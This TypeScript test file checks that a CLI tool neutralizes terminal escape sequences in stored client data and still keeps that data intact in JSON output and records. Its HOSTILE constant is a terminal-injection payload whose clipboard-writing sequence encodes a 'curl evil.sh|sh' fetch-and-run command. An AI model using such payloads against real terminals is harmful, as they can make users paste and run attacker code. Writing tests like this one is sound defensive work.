import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { SessionRecord } from '../../src/store/sessions.js';
import { FIXTURES, runCli, runInProcess, tempDir, writeDraft, type CliResult } from '../helpers.js';

/**
 * The user's data holding what a terminal obeys: OSC 52 (writes the clipboard), a window title, a
 * screen clear, an 8-bit CSI, a right-to-left override. Printed raw, each would act; calmclient
 * shows them visibly. Colours are off (NO_COLOR), so any ESC in the output is one that got through.
 */
const HOSTILE = '\u001b]52;c;Y3VybCBldmlsLnNofHNo\u0007\u001b]0;pwned\u0007\u001b[2J\u009b31m\u202eevil';
const ACTIVE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

function inert(result: CliResult): void {
  expect(result.stdout).not.toMatch(ACTIVE);
  expect(result.stderr).not.toMatch(ACTIVE);
}

describe('the user\'s data on the terminal (issue 13, item 3)', () => {
  const home = tempDir();
  const client = `Dupont ${HOSTILE}`;
  const id = '2026-11-20-dupont-beef';
  writeDraft(home, {
    id,
    client,
    status: 'open',
    answers: { client_words: `They wrote: ${HOSTILE}\nand more`, tone: 'angry', solution: HOSTILE },
    promise: { what: `Fix it ${HOSTILE}`, by: '2020-01-10' },
    nextContact: '2020-01-11T10:00',
    lesson: `Lesson ${HOSTILE}`,
    files: { recap: join(home, `recap-${HOSTILE.replace(/\//g, '')}.md`) },
  });

  it.each([
    ['show', ['show', id]],
    ['show --json', ['show', id, '--json']],
    ['history', ['history']],
    ['history --json', ['history', '--json']],
    ['lessons', ['lessons']],
    ['lessons --client', ['lessons', '--client', client]],
    ['lessons --json', ['lessons', '--json']],
    ['an unknown id', ['show', `x${HOSTILE}`]],
    ['forget\'s confirmation', ['forget', client]],
  ])('%s shows it visibly, and nothing of it acts', async (_what, args) => {
    const result = await runInProcess(args, { home });
    inert(result);
    expect(`${result.stdout}${result.stderr}`).toMatch(/\^\[\]52;c;|\\u001b\]52;c;/);
  });

  it.each([['show', id], ['history'], ['lessons']])('%s keeps its own colours when they are on, and still nothing of the data acts', (...args) => {
    const result = runCli(args, { home, env: { FORCE_COLOR: '1' } });
    // calmclient's colours are real escapes (not made visible), and the data's are not.
    expect(result.stdout).toMatch(/\u001b\[(1|31|33|2)m/);
    expect(result.stdout).not.toMatch(/\^\[\[(39|22|31|33|1|2)m/);
    expect(result.stdout).not.toMatch(/\u001b\]|\u001b\[2J|[\u0080-\u009f\u202e]/);
  });

  it('show --json still gives scripts the data as it is', async () => {
    const shown = JSON.parse((await runInProcess(['show', id, '--json'], { home })).stdout) as SessionRecord;
    expect(shown.client).toBe(client);
    expect(shown.lesson).toBe(`Lesson ${HOSTILE}`);
  });

  it('the follow-up reminder and the checklist\'s past incidents show it visibly', async () => {
    const followup = await runInProcess(['followup', id, '--answers', join(FIXTURES, 'answers', 'followup-en.yaml')], { home });
    expect(followup.code).toBe(0);
    inert(followup);
    expect(followup.stdout.replace(/\s+/g, ' ')).toContain('Agreed: Fix it ^[]52;c;');
    const checklist = await runInProcess(['checklist', '--client', client, '--answers', join(FIXTURES, 'answers', 'prevention-en.yaml')], { home });
    expect(checklist.code).toBe(0);
    inert(checklist);
    expect(checklist.stdout).toMatch(/what happened with Dupont \^\[\]52;c;/);
  });

  it('keeps the data as typed in the record and the documents', () => {
    const record = JSON.parse(readFileSync(join(home, 'sessions', `${id}.json`), 'utf8')) as SessionRecord;
    expect(record.client).toBe(client);
    expect(record.lesson).toBe(`Lesson ${HOSTILE}`);
  });

  it('the paths `start` prints and the name it was given, in a folder named with escapes', async () => {
    const other = tempDir();
    const out = join(other, `out${HOSTILE.replace(/\//g, '')}`);
    mkdirSync(out);
    const result = await runInProcess(['start', '--answers', join(FIXTURES, 'answers', 'crisis-en.yaml'), '--client', client, '--out', out], { home: other });
    expect(result.code).toBe(0);
    inert(result);
    expect(result.stdout).toContain('out^[]52;c;');
  });

  it('check shows a draft\'s escapes visibly, with the carets under the words as shown', async () => {
    const dir = tempDir();
    const draft = join(dir, `reply${HOSTILE.replace(/\//g, '')}.md`);
    writeFileSync(draft, `Subject: ${HOSTILE}\n\nHello,\n\n\u001b]52;c;eA==\u0007 I will do it as soon as possible \u202e, sorry you feel that way.\n`);
    const text = await runInProcess(['check', draft], { home: dir });
    expect(text.code).toBe(1);
    inert(text);
    // The finding on "as soon as possible": its carets, one per character, start under its first letter.
    const lines = text.stdout.split('\n');
    const carets = lines.findIndex((line) => /^\s+\^{19}$/.test(line));
    expect(carets).toBeGreaterThan(0);
    expect((lines[carets - 1] ?? '').indexOf('as soon as possible')).toBe((lines[carets] ?? '').indexOf('^'));
    const json = await runInProcess(['check', draft, '--format', 'json'], { home: dir });
    inert(json);
  });
});
